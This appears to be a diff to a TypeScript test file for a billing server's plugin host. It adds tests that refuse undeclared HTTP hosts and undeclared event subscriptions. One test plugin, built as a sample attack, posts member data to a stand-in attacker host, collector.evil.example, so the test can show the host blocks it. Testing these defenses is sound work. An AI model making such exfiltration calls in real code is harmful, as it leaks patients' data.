@@ -1,6 +1,7 @@
 import type { INestApplication } from '@nestjs/common';
 import { definePlugin, type PluginDefinition } from '@openrcm/sdk';
 import request from 'supertest';
+import pino from 'pino';
 import { z } from 'zod';
 import { PluginHost } from '../src/plugins/plugin-host.service';
 import { eventually, startTestServer, testConfig } from './support/test-app';
@@ -28,7 +29,7 @@ describe('the plugin host', () => {
   it('refuses a plugin built for another major version of the SDK', async () => {
     const plugin = fakePlugin({ id: 'future', sdk: '^2' });
     await expect(boot({ f: plugin }, [{ module: 'f', settings: { endpoint: 'https://payer.example' } }])).rejects.toThrow(
-      'plugin "future" requires @openrcm/sdk "^2", but this server provides @openrcm/sdk 1.0.0',
+      'plugin "future" requires @openrcm/sdk "^2", but this server provides @openrcm/sdk 1.1.0',
     );
   });
 
@@ -54,6 +55,7 @@ describe('the plugin host', () => {
       });
       const hanging = fakePlugin({
         id: 'hangs',
+        capabilities: { events: ['organization.created'] },
         register(ctx) {
           ctx.events.on('organization.created', () => new Promise(() => undefined));
           ctx.contribute('scrub-rule', { id: 'slow', description: 'never answers', inspect: () => new Promise(() => undefined) });
@@ -92,6 +94,56 @@ describe('the plugin host', () => {
       const [slowRule] = host.contributions(organizationId, 'scrub-rule');
       await expect(slowRule?.inspect({} as never, {} as never)).rejects.toThrow('plugin "hangs" did not answer scrub-rule.inspect within 500 ms');
       await admin.agent.get(`/api/organizations/${organizationId}`).expect(200);
+    });
+  });
+
+  describe('capabilities', () => {
+    it('refuses a call to a host the plugin did not declare, and logs the attempt with the plugin id', async () => {
+      const lines: string[] = [];
+      const logger = pino({ level: 'info' }, { write: (line: string) => void lines.push(line) });
+      const payer = fakePlugin({
+        id: 'payer-api',
+        capabilities: { http: { hosts: (current: unknown) => [new URL((current as { endpoint: string }).endpoint).host] } },
+        register(ctx) {
+          ctx.contribute('eligibility-provider', {
+            id: 'payer-api',
+            check: async () => {
+              await ctx.http.request('https://collector.evil.example/upload', { method: 'POST', body: 'member data' });
+              return { status: 'SUCCESS', value: { active: true, messages: [], raw: null } };
+            },
+          });
+        },
+      });
+      const config = await testConfig({ useRedis: false, plugins: { installed: [{ module: 'p', settings: { endpoint: 'https://api.payer.example/v1' } }] } });
+      const app = await startTestServer(config, { loadPluginModule: () => ({ plugin: payer }), logger });
+      try {
+        const admin = await signInAsNewAdmin(app);
+        const [provider] = app.get(PluginHost).contributions(admin.organizationId, 'eligibility-provider');
+        await expect(provider?.check({} as never, {} as never)).rejects.toThrow(
+          'plugin "payer-api" may not call collector.evil.example: declare it in capabilities.http.hosts',
+        );
+        const refusal = lines.map((line) => JSON.parse(line) as Record<string, unknown>).find((entry) => entry['msg'] === 'plugin HTTP call refused: host not declared');
+        expect(refusal).toMatchObject({ plugin: 'payer-api', host: 'collector.evil.example', organizationId: admin.organizationId });
+        const listing = await admin.agent.get(`/api/organizations/${admin.organizationId}/plugins`).expect(200);
+        expect(listing.body[0].capabilities).toEqual({ hosts: ['api.payer.example'], events: [], query: [] });
+      } finally {
+        await app.close();
+      }
+    });
+
+    it('marks a plugin unhealthy when it subscribes to an event it did not declare', async () => {
+      const sneaky = fakePlugin({ id: 'sneaky', register: (ctx) => ctx.events.on('job.failed', async () => undefined) });
+      const app = await boot({ s: sneaky }, [{ module: 's', settings: { endpoint: 'https://payer.example' } }]);
+      try {
+        const admin = await signInAsNewAdmin(app);
+        const listing = await admin.agent.get(`/api/organizations/${admin.organizationId}/plugins`).expect(200);
+        expect(listing.body[0].health).toMatchObject({
+          healthy: false,
+          lastError: 'register: plugin "sneaky" did not declare the event "job.failed" in capabilities.events',
+        });
+      } finally {
+        await app.close();
+      }
     });
   });
 });
